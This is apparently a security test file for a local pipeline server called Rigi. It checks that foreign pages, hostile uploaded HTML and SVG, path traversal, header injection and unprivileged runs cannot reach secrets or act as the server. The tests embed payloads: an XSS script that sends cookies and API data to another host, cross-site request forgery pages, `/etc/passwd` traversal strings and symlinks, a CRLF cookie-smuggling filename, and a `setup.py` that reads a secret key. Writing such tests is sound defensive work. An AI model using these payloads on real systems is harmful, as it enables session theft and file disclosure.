/** What foreign pages, hostile files and curious tools cannot do to a server of one machine. */
import { createServer, request as ask, type IncomingHttpHeaders } from "node:http";
import { statSync, readFileSync, readdirSync, readlinkSync, writeFileSync, chmodSync, copyFileSync, mkdtempSync, rmSync } from "node:fs";
import { connect, type AddressInfo, type Socket } from "node:net";
import { join } from "node:path";

import { call } from "../support/bed";
import { signIn } from "../support/page";
import { inCi } from "../support/places";
import { expect, test, type Server } from "../support/test";

interface Answer {
  status: number;
  headers: IncomingHttpHeaders;
  body: string;
}

/** A request just as it is written: `fetch` tidies paths and sets headers of its own. */
function raw(server: Server, path: string, headers: Record<string, string> = {}, method = "GET"): Promise<Answer> {
  const { hostname, port } = new URL(server.api.url);
  return new Promise((done, fail) => {
    const call = ask({ hostname, port, path, method, headers, setHost: !("host" in headers) }, (answer) => {
      let body = "";
      answer.setEncoding("utf8").on("data", (text: string) => (body += text));
      answer.on("end", () => done({ status: answer.statusCode ?? 0, headers: answer.headers, body }));
    });
    call.on("error", fail).end();
  });
}

/** Another server of this machine: serves pages by path, and writes down what it is asked for. */
async function foreign(pages: Record<string, string>): Promise<{ port: number; heard: string[]; close: () => Promise<void> }> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url ?? "");
    const page = pages[request.url ?? ""];
    response.writeHead(page === undefined ? 404 : 200, { "content-type": "text/html" }).end(page ?? "");
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  const close = (): Promise<void> => new Promise((done) => {
    server.closeAllConnections();
    server.close(() => done());
  });
  return { port: (server.address() as AddressInfo).port, heard, close };
}

async function session(server: Server): Promise<string> {
  const { path } = await server.api.post<{ path: string }>("/links");
  const opened = await fetch(`${server.api.url}${path}`);
  return opened.headers.get("set-cookie")!.split(";")[0]!;
}

test("a link signs in once, also when two open it at the same moment; its cookie is for this server's pages alone", async ({ bed }) => {
  const server = await bed.up();
  const answers = await Promise.all(Array.from({ length: 8 }, () => raw(server, new URL(server.link).pathname + new URL(server.link).search)));
  expect(answers.map((answer) => answer.status).sort()).toEqual([200, 401, 401, 401, 401, 401, 401, 401]);
  const cookies = answers.flatMap((answer) => answer.headers["set-cookie"] ?? []);
  expect(cookies).toHaveLength(1);
  expect(cookies[0]).toMatch(/^rigi_session_[0-9a-f]{8}=[0-9a-f]{64}\.[0-9a-f]{64}; Path=\/; HttpOnly; SameSite=Strict; Max-Age=\d+$/);
  // Two servers of one machine do not sign each other's people out.
  const other = await bed.up({ data: bed.folder("other"), pipelines: bed.folder("others"), env: { RIGI_DATABASE__URL: undefined } });
  expect((await session(other)).split("=")[0]).not.toBe(cookies[0]!.split("=")[0]);
  // 256 bits, and no fewer in the token.
  expect(new URL(server.link).searchParams.get("token")).toMatch(/^[0-9a-f]{64}$/);
  expect(server.api.token).toMatch(/^[0-9a-f]{64}$/);
});

test("looking ahead does not use a link up, and no link leads to another place", async ({ bed }) => {
  const server = await bed.up();
  const path = `/?token=${new URL(server.link).searchParams.get("token")}`;
  expect((await raw(server, path, {}, "HEAD")).headers["set-cookie"]).toBeUndefined();
  expect((await raw(server, path, { "sec-purpose": "prefetch;prerender" })).headers["set-cookie"]).toBeUndefined();
  const opened = await raw(server, `//evil.example/${path.slice(1)}`);
  expect(opened.status).toBe(200);
  expect(opened.body).not.toContain("evil.example");
  const cookie = opened.headers["set-cookie"]![0]!.split(";")[0]!;
  for (const bad of ["//evil.example/?token=old", "/\\evil.example/?token=old"]) {
    const answer = await raw(server, bad, { cookie });
    expect(answer.headers.location, bad).toBe("/");
  }
});

test("a foreign name for this address gets nothing: page, API, health, link", async ({ bed }) => {
  const server = await bed.up();
  const { port } = new URL(server.api.url);
  const paths = ["/", "/assets/x.js", "/livez", "/metrics", "/docs/", "/api/v1/runs", new URL(server.link).pathname + new URL(server.link).search];
  for (const host of [`evil.example:${port}`, `127.0.0.1.evil.example:${port}`, "evil.example", ""]) {
    for (const path of paths) expect((await raw(server, path, { host, ...server.api.headers })).status, `${host}${path}`).toBe(403);
  }
  for (const host of [`127.0.0.1:${port}`, `localhost:${port}`, `LOCALHOST:${port}`]) expect((await raw(server, "/livez", { host })).status, host).toBe(200);
});

test("with a session, only this server's own pages load and act", async ({ bed }) => {
  bed.shell("noop", "true");
  const server = await bed.up();
  const cookie = await session(server);
  const read = async (site: string, mode: string): Promise<number> =>
    (await raw(server, "/api/v1/runs", { cookie, "sec-fetch-site": site, "sec-fetch-mode": mode })).status;
  expect(await read("same-origin", "cors")).toBe(200);
  expect(await read("none", "navigate")).toBe(200);
  expect(await read("same-site", "no-cors")).toBe(403);
  expect(await read("cross-site", "cors")).toBe(403);
  const act = async (headers: Record<string, string>): Promise<number> => (await raw(server, "/api/v1/links", { cookie, ...headers }, "POST")).status;
  const { host } = new URL(server.api.url);
  expect(await act({ origin: `http://${host}` })).toBe(201);
  for (const origin of ["null", "http://127.0.0.1:1", `http://${host}.evil.example`, "http://evil.example"]) expect(await act({ origin }), origin).toBe(403);
  expect(await act({ "sec-fetch-site": "same-site" })).toBe(403);
  // No other page may read an answer, whatever it asks for.
  const asked = await raw(server, "/api/v1/runs", { origin: "http://evil.example", "access-control-request-method": "POST" }, "OPTIONS");
  expect(Object.keys(asked.headers).filter((name) => name.startsWith("access-control-"))).toEqual([]);
});

test("answers allow no script within HTML, no frame elsewhere, no guessing of types", async ({ bed }) => {
  const server = await bed.up();
  for (const path of ["/", "/runs", "/docs/", "/api/v1/system", "/api/v1/nothing"]) {
    const { headers } = await raw(server, path, server.api.headers);
    const policy = String(headers["content-security-policy"]);
    expect(policy, path).toContain("script-src 'self'");
    expect(/script-src[^;]*unsafe/.exec(policy), path).toBeNull();
    expect(policy, path).toMatch(/frame-ancestors '(self|none)'/);
    expect(headers["x-content-type-options"], path).toBe("nosniff");
    expect(headers["cross-origin-resource-policy"], path).toBe("same-origin");
    expect(headers["referrer-policy"], path).toBe("no-referrer");
  }
  expect((await raw(server, "/")).body).not.toMatch(/<script(?![^>]*src=)|\son\w+=/i);
});

/** A script that tries all it can, and tells what it got. */
function hostile(home: string, port: number): string {
  const tell = `new Image().src="http://127.0.0.1:${port}/ran?"+encodeURIComponent(document.cookie)`;
  const act = `fetch("${home}/api/v1/system",{credentials:"include"}).then(r=>r.text()).then(t=>{new Image().src="http://127.0.0.1:${port}/got?"+encodeURIComponent(t)});fetch("${home}/api/v1/pipelines/noop/runs",{method:"POST",credentials:"include",headers:{"content-type":"application/json"},body:"{}"})`;
  return `${tell};${act}`;
}

for (const kind of ["html", "svg"] as const) {
  test(`hostile ${kind} that a run left cannot act as Rigi, also when it is loaded again`, async ({ bed, page }) => {
    bed.shell("noop", "true");
    const elsewhere = await foreign({});
    const folder = bed.shell("evil", `cp page.${kind} "$RIGI_OUTPUTS/page.${kind}"`);
    const server = await bed.up();
    const { api } = server;
    const script = hostile(api.url, elsewhere.port);
    const form = `<form id="f" method="post" action="/api/v1/links"></form><meta http-equiv="refresh" content="1;url=javascript:${encodeURIComponent(script)}">`;
    const html = `<!doctype html><title>shown</title><p>shown</p><script>${script}</script><img src="http://127.0.0.1:${elsewhere.port}/img" onerror='${script.replaceAll("'", "")}'>${form}<script src="http://127.0.0.1:${elsewhere.port}/s.js"></script>`;
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="99" height="9"><text y="9">shown</text><script><![CDATA[${script}]]></script><image href="http://127.0.0.1:${elsewhere.port}/img" width="1" height="1"/></svg>`;
    writeFileSync(join(folder, `page.${kind}`), kind === "html" ? html : svg);
    await expect.poll(async () => (await api.get<{ items: { path: string }[] }>("/pipelines/evil/code")).items.map((file) => file.path)).toContain(`page.${kind}`);
    const run = await api.ended((await api.submit("evil")).id);
    expect(run.state).toBe("succeeded");
    await signIn(page, server);
    const url = `${api.url}/api/v1/runs/${run.id}/artifacts/page.${kind}`;
    const policies: string[] = [];
    page.on("response", (answer) => {
      if (answer.url() === url) policies.push(answer.headers()["content-security-policy"] ?? "");
    });
    await page.goto(url);
    await expect(page.getByText("shown").first()).toBeVisible();
    // The browser's own view of it: an origin of its own. (Scripts of the debugger are let in where the page's are not.)
    expect(await page.evaluate(() => self.origin)).toBe("null");
    await page.reload();
    await expect(page.getByText("shown").first()).toBeVisible();
    expect(await page.evaluate(() => self.origin)).toBe("null");
    expect(policies.every((policy) => policy.includes("sandbox"))).toBe(true);
    // The page that shows it in place, as it does with the only file.
    await page.goto(`${api.url}/runs/${run.id}`);
    await page.getByRole("tab", { name: /Outputs/ }).click();
    await expect(page.locator(`iframe[src$="page.${kind}"], img[src$="page.${kind}"]`)).toBeVisible();
    expect(elsewhere.heard).toEqual([]);
    expect((await api.runs()).map((other) => other.pipeline)).toEqual(["evil"]);
    await elsewhere.close();
  });
}

test("that a file has not changed does not take its sandbox away", async ({ bed }) => {
  bed.shell("writes", "echo '<p>x</p>' > $RIGI_OUTPUTS/x.html");
  const server = await bed.up();
  const run = await server.api.ended((await server.api.submit("writes")).id);
  const path = `/api/v1/runs/${run.id}/artifacts/x.html`;
  const first = await raw(server, path, server.api.headers);
  const again = await raw(server, path, { ...server.api.headers, "if-none-match": String(first.headers.etag) });
  expect([first.status, again.status]).toEqual([200, 304]);
  expect(again.headers["content-security-policy"]).toBe(first.headers["content-security-policy"]);
  expect(first.headers["content-security-policy"]).toContain("sandbox");
});

for (const place of ["127.0.0.1", "localhost"]) {
  test(`a hostile page on ${place} can neither start a run, nor read, nor show the page in a frame`, async ({ bed, page }) => {
    bed.shell("noop", "true");
    const server = await bed.up();
    const home = server.api.url;
    await signIn(page, server);
    const run = await server.api.ended((await server.api.submit("noop")).id);
    const tries = `
      const results = [];
      const tried = (what) => (value) => results.push(what + ":" + value);
      const json = {method: "POST", credentials: "include", headers: {"content-type": "application/json"}, body: "{}"};
      const plain = {method: "POST", credentials: "include", mode: "no-cors", headers: {"content-type": "text/plain"}, body: "{}"};
      const all = [
        fetch("${home}/api/v1/pipelines/noop/runs", json).then(tried("json"), () => tried("json")("no")),
        fetch("${home}/api/v1/runs/${run.id}/retry", plain).then(tried("retry"), () => tried("retry")("no")),
        fetch("${home}/api/v1/system", {credentials: "include"}).then(r => r.text()).then(tried("read"), () => tried("read")("no")),
        new Promise(done => { const i = new Image(); i.onload = () => done(tried("image")("loaded")); i.onerror = () => done(tried("image")("no")); i.src = "${home}/favicon.svg"; }),
        new Promise(done => { const s = document.createElement("script"); s.onload = () => done(tried("script")("loaded")); s.onerror = () => done(tried("script")("no")); s.src = "${home}/api/v1/system"; document.body.append(s); }),
      ];
      Promise.all(all).then(() => { document.title = results.sort().join(" "); });`;
    const form = `<form method="post" action="${home}/api/v1/runs/${run.id}/retry"></form><script>document.forms[0].submit()</script>`;
    const elsewhere = await foreign({ "/": `<body><script>${tries}</script>`, "/form": form, "/frame": `<iframe src="${home}/runs"></iframe>` });
    const own = `http://${place}:${elsewhere.port}`;
    await page.goto(own);
    await expect(page).toHaveTitle("image:no json:no read:no retry:no script:no");
    await page.goto(`${own}/form`, { waitUntil: "commit" });
    await expect(page.getByText(/foreign page|behind a link/)).toBeVisible();
    await page.goto(`${own}/frame`);
    // The frame holds the browser's own words about a refusal, not the page.
    await expect.poll(() => page.frames().map((frame) => frame.url())).not.toContain(`${home}/runs`);
    expect((await server.api.runs()).map((other) => other.id)).toEqual([run.id]);
    await elsewhere.close();
  });
}

test("no path leads out: up, encoded, absolute, with NUL", async ({ bed }) => {
  bed.shell("writes", "echo x > $RIGI_OUTPUTS/a.txt; ln -s /etc/passwd $RIGI_OUTPUTS/passwd; ln -s / $RIGI_OUTPUTS/root");
  const server = await bed.up();
  const run = await server.api.ended((await server.api.submit("writes")).id);
  const ways = ["../token", "..%2ftoken", "%2e%2e/%2e%2e/token", "..%5ctoken", "%252e%252e%252ftoken", "/etc/passwd", "%2fetc%2fpasswd", "a.txt%00.html", "....//token", "passwd", "root/etc/passwd"];
  const bases = [`/api/v1/runs/${run.id}/artifacts/`, `/api/v1/runs/${run.id}/code/`, "/api/v1/environments/", "/assets/", "/", "/docs/"];
  for (const base of bases) {
    for (const way of ways) {
      const answer = await raw(server, `${base}${way}${base.includes("environments") ? "/log" : ""}`, server.api.headers);
      expect(answer.body, `${base}${way}`).not.toContain(server.api.token);
      expect(answer.body, `${base}${way}`).not.toContain("root:x:0");
      if (base.startsWith("/api/")) expect(answer.status, `${base}${way}`).toBeGreaterThanOrEqual(400);
      expect(answer.status, `${base}${way}`).toBeLessThan(500);
    }
  }
});

test("a file's name ends no header, and a upload's name no path", async ({ bed }) => {
  const name = 'a"; x=\r\nSet-Cookie: rigi_session=1\u0001\u202e.html';
  bed.shell("names", 'touch "$RIGI_OUTPUTS/$NAME"', { env: { NAME: name } });
  const server = await bed.up();
  const run = await server.api.ended((await server.api.submit("names")).id);
  const answer = await raw(server, `/api/v1/runs/${run.id}/artifacts/${encodeURIComponent(name)}`, server.api.headers);
  expect(answer.status).toBe(200);
  expect(answer.headers["set-cookie"]).toBeUndefined();
  expect(answer.headers["content-disposition"]).toMatch(/^inline; filename="[ -~]*"; filename\*=UTF-8''[\w.%-]+$/);
  expect(String(answer.headers["content-disposition"]).split('"')).toHaveLength(3);
  for (const bad of ["../x", "a/b", "a\\b", "..", "a\nb", ""]) {
    const refused = await server.api.refused("POST", `/api/v1/uploads?name=${encodeURIComponent(bad)}`, "x", { "content-type": "application/octet-stream" });
    expect(refused.status, bad).toBe(400);
  }
});

test("neither the server's log nor the browser's history holds what signs in", async ({ bed, page }) => {
  bed.shell("noop", "true");
  const server = await bed.up({ env: { RIGI_LOG__LEVEL: "trace" } });
  const code = new URL(server.link).searchParams.get("token")!;
  await page.goto(server.link);
  await expect(page.getByRole("link", { name: "Pipelines" }).first()).toBeVisible();
  expect(page.url()).not.toContain("token");
  await server.api.ended((await server.api.submit("noop")).id);
  const cookies = await page.context().cookies();
  await page.goBack().catch(() => undefined);
  expect(page.url()).not.toContain(code);
  const words = server.complaints.join("\n");
  expect(words.length).toBeGreaterThan(1000);
  for (const secret of [code, server.api.token, cookies[0]!.value]) expect(words.includes(secret)).toBe(false);
});

test("what is secret is its owner's alone, also in a folder that was open", async ({ bed }) => {
  chmodSync(bed.data, 0o755);
  writeFileSync(join(bed.data, "token"), "ab".repeat(32), { mode: 0o644 });
  bed.shell("noop", "true", { parameters: { key: { type: "string", format: "password" } } });
  const server = await bed.up();
  await server.api.ended((await server.api.submit("noop", { parameters: { key: "geheim-1234" } })).id);
  const mode = (path: string): number => statSync(join(bed.data, path)).mode & 0o777;
  expect(mode("")).toBe(0o700);
  for (const file of ["token", "server.json", "secret.key", "supervisor/sock"]) expect(mode(file), file).toBe(0o600);
  expect(readFileSync(join(bed.data, "token"), "utf8")).toBe("ab".repeat(32));
  const detached = bed.folder("later");
  const said = await bed.rigi(["up", bed.folder("none"), "--detach", "--port", "0", "--data", join(detached, "data")], { env: { RIGI_DATA: undefined, RIGI_DATABASE__URL: undefined } });
  expect(said.code, said.err).toBe(0);
  expect(statSync(join(detached, "data")).mode & 0o777).toBe(0o700);
  expect(statSync(join(detached, "data/server.log")).mode & 0o777).toBe(0o600);
  expect((await bed.rigi(["down", "--data", join(detached, "data")], { env: { RIGI_DATA: undefined } })).code).toBe(0);
});

test("the door for runners answers attempts alone, and is no way to the API", async ({ bed }) => {
  const door = await foreign({});
  await door.close();
  const server = await bed.up({ env: { RIGI_RUNNERS__BIND: `127.0.0.1:${door.port}` } });
  const call = (path: string, token?: string): Promise<Response> =>
    fetch(`http://127.0.0.1:${door.port}${path}`, { method: path.endsWith("claim") ? "POST" : "GET", headers: token ? { authorization: `Bearer ${token}` } : {} });
  for (const token of [undefined, "x", server.api.token]) {
    expect((await call("/runner/v1/claim", token)).status).toBe(401);
    expect((await call("/runner/v1/code", token)).status).toBe(401);
  }
  for (const path of ["/api/v1/runs", "/api/v1/system", "/", "/metrics", "/readyz"]) {
    expect([401, 404], path).toContain((await call(path, server.api.token)).status);
  }
  // And the API does not take a runner's calls.
  expect([404, 405]).toContain((await raw(server, "/runner/v1/claim", {}, "POST")).status);
});

test("neither server nor runs have what their caller had open, and no lock of it is held on", async ({ bed }) => {
  const [held, secret] = [join(bed.root, "held"), join(bed.root, "secret")];
  writeFileSync(secret, "for root alone");
  bed.shell("look", "ls -l /proc/self/fd; ulimit -Sn");
  const caller = 'exec 7>"$RIGI_TEST_HELD" 8<"$RIGI_TEST_SECRET"; flock 7; ulimit -Sn 777; exec "$@"';
  const env = { RIGI_LIMITS__OPEN_FILES: "none", RIGI_TEST_HELD: held, RIGI_TEST_SECRET: secret };
  const server = await bed.up({ env, within: ["sh", "-c", caller, "sh"] });
  const run = await server.api.ended((await server.api.submit("look")).id);
  const log = await (await server.api.fetch("GET", `/api/v1/runs/${run.id}/log/raw`)).text();
  expect(log).not.toMatch(/secret|held/);
  // The server takes as many as it may, and runs have what was theirs.
  expect(log.trim().split("\n").at(-1)).toBe("777");
  for (const pid of [server.pid, server.supervisor]) {
    const open = readdirSync(`/proc/${pid}/fd`).map((name) => { try { return readlinkSync(`/proc/${pid}/fd/${name}`); } catch { return ""; } });
    expect(open.filter((path) => [held, secret].includes(path)), String(pid)).toEqual([]);
  }
  expect((await call("flock", ["--nonblock", held, "true"], { ms: 5000 })).code).toBe(0);
});

test("a crowd without a token keeps nobody out who has one", async ({ bed }) => {
  const server = await bed.up();
  const { hostname, port } = new URL(server.api.url);
  const crowd = await Promise.all(Array.from({ length: 2000 }, () => new Promise<Socket>((done) => {
    const socket = connect(Number(port), hostname, () => done(socket));
    socket.on("error", () => done(socket));
  })));
  try {
    for (let time = 0; time < 5; time += 1) {
      const since = Date.now();
      expect((await raw(server, "/api/v1/system", { ...server.api.headers, connection: "close" })).status).toBe(200);
      expect(Date.now() - since).toBeLessThan(1000);
    }
    expect((await raw(server, "/livez")).body).toBe("ok\n");
  } finally {
    for (const socket of crowd) socket.destroy();
  }
});

test("a server that runs as root says so", async ({ bed }) => {
  const server = await bed.up();
  const warnings = (await server.api.get<{ warnings: string[] }>("/system")).warnings;
  const told = [...server.said, ...warnings].filter((line) => line.includes("root"));
  expect(told.length).toBe(process.getuid?.() === 0 ? 2 : 0);
});

test("runs of another account: their code, their packages and what they leave are kept from Rigi's own", async ({ bed }) => {
  test.skip(process.getuid?.() !== 0 && !inCi, "only root may start processes of another account");
  test.setTimeout(240_000);
  const folder = mkdtempSync("/tmp/rigi-test-runs-");
  try {
    bed.shell(
      "tries",
      `id -u; cat "$DATA/secret.key" "$DATA/rigi.db" "$DATA/token" | wc -c; ln -s "$DATA/secret.key" "$RIGI_OUTPUTS/key"; ln /etc/hostname "$RIGI_OUTPUTS/name"; echo fine >"$RIGI_OUTPUTS/mine"; echo '{"progress":0.5}' >>"$RIGI_EVENTS"`,
      { env: { DATA: bed.data } },
    );
    const setup = `import os
from setuptools import setup
try:
    key = open(${JSON.stringify(join(bed.data, "secret.key"))}, "rb").read() and "read"
except OSError:
    key = "refused"
open("who.py", "w").write(f"user = {os.getuid()}\\nkey = '{key}'\\n")
setup(name="who", version="1", py_modules=["who"])
`;
    const main = `import os, sys, who
print(who.user, who.key, os.getuid(), os.access(who.__file__, os.W_OK), os.access(sys.prefix, os.W_OK))
`;
    bed.pipeline("packages", { "main.py": main, "requirements.txt": "./who\n", "who/setup.py": setup });
    // What root has in its home, others cannot start.
    copyFileSync(process.env.RIGI_TEST_UV!, join(folder, "uv"));
    chmodSync(join(folder, "uv"), 0o755);
    const env = {
      RIGI_PROCESS__RUN_AS: "nobody",
      RIGI_PROCESS__FOLDER: join(folder, "runs"),
      RIGI_PYTHON__UV: join(folder, "uv"),
      PATH: "/usr/local/bin:/usr/bin:/bin",
    };
    chmodSync(folder, 0o755);
    const server = await bed.up({ env });
    const { api } = server;
    expect(server.said.join("\n")).not.toContain("as root");
    const tries = await api.ended((await api.submit("tries")).id);
    expect(tries.state, tries.message).toBe("succeeded");
    expect(await api.output(tries.id)).toEqual(["65534", "0"]);
    const { items } = await api.get<{ items: { path: string }[] }>(`/runs/${tries.id}/artifacts`);
    expect(items.map((item) => item.path)).toEqual(["mine"]);
    const packages = await api.ended((await api.submit("packages")).id, 200_000);
    expect(packages.state, packages.message).toBe("succeeded");
    expect(await api.output(packages.id)).toEqual(["65534 refused 65534 False False"]);
    const refused = await bed.rigi(["up", bed.pipelines, "--port", "0", "--data", bed.folder("other")], { env: { RIGI_PROCESS__RUN_AS: "root", RIGI_DATABASE__URL: undefined } });
    expect(refused.code).toBe(78);
    expect(refused.err).toContain("process.run_as");
  } finally {
    await bed.remove();
    rmSync(folder, { recursive: true, force: true });
  }
});
